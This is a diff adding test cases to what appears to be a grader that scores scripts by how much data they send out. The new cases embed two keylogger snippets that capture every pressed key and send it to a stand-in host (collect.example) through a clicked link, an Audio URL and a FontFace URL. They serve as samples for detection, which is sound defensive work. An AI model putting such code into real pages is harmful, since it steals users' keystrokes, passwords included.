@@ -328,6 +328,22 @@ describe('the grade of what sends data', () => {
       },
       ['A+', 'A', 'B'],
     ],
+    [
+      'pressed keys, in the address of a link that the script presses',
+      {
+        content:
+          "document.addEventListener('keydown', (e) => { const a = document.createElement('a'); a.href = 'https://collect.example/x?' + e.key; a.click(); });",
+      },
+      ['C', 'D', 'F'],
+    ],
+    [
+      'pressed keys, in the address of a sound and of a font',
+      {
+        content:
+          "document.addEventListener('keydown', (e) => { new Audio('https://collect.example/a?' + e.key); new FontFace('x', 'url(https://collect.example/f?' + e.key + ')').load(); });",
+      },
+      ['F'],
+    ],
   ] as const)('%s', async (_, parts, grades) => {
     expect(grades).toContain(await graded(parts));
   });
